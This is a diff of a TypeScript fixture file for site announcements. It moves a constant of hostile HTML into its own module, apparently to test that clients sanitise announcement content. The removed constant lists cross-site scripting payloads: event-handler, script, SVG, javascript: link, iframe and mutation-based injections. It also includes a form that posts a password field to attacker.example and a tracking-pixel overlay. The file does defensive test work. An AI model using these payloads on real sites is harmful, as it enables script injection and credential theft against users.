@@ -1,3 +1,4 @@
+import { HOSTILE_HTML } from "./hostile-html.ts";
 import type { Text } from "./text.ts";
 
 /** PL plain notice, PU pop-up, PR promotion, H headline. */
@@ -12,23 +13,6 @@ export interface AnnouncementRecord {
   /** HTML; clients sanitise it. */
   content: Text;
 }
-
-/**
- * HTML as an attacker who took over an operator's editor would write it: clients must show the words and run nothing.
- * Each line is one way in.
- */
-export const HOSTILE_HTML = `<p>Service hours <strong>changed</strong>.</p>
-<img src="x" onerror="document.documentElement.dataset.attacked='img'">
-<script>document.documentElement.dataset.attacked = "script"</script>
-<svg><animate onbegin="document.documentElement.dataset.attacked='svg'" attributeName="x" dur="1s"></animate></svg>
-<a href="javascript:document.documentElement.dataset.attacked='link'">Read more</a>
-<a href="java&#10;script:document.documentElement.dataset.attacked='split'">Hours</a>
-<iframe srcdoc="<script>parent.document.documentElement.dataset.attacked='frame'</script>"></iframe>
-<form action="https://attacker.example/collect"><input name="password"><button formaction="javascript:alert(1)">Confirm</button></form>
-<math><mtext><table><mglyph><style><img src=x onerror="document.documentElement.dataset.attacked='mutation'"></style></mglyph></table></mtext></math>
-<p style="position:fixed;inset:0;background:url(https://attacker.example/pixel)">Overlay</p>
-<p id="root" class="dialog" name="body">Names that clash</p>
-<p>Thank you.</p>`;
 
 const PROMOTION_TABLE = {
   en: `<table><thead><tr><th scope="col">First deposit</th><th scope="col">Bonus</th><th scope="col">Wagering</th></tr></thead>
@@ -121,7 +105,7 @@ export const ANNOUNCEMENTS: readonly AnnouncementRecord[] = [
       fil: "Oras ng serbisyo",
       vi: "Giờ phục vụ",
     },
-    content: { en: HOSTILE_HTML, bn: HOSTILE_HTML },
+    content: HOSTILE_HTML,
   },
   {
     id: "PL-2003",
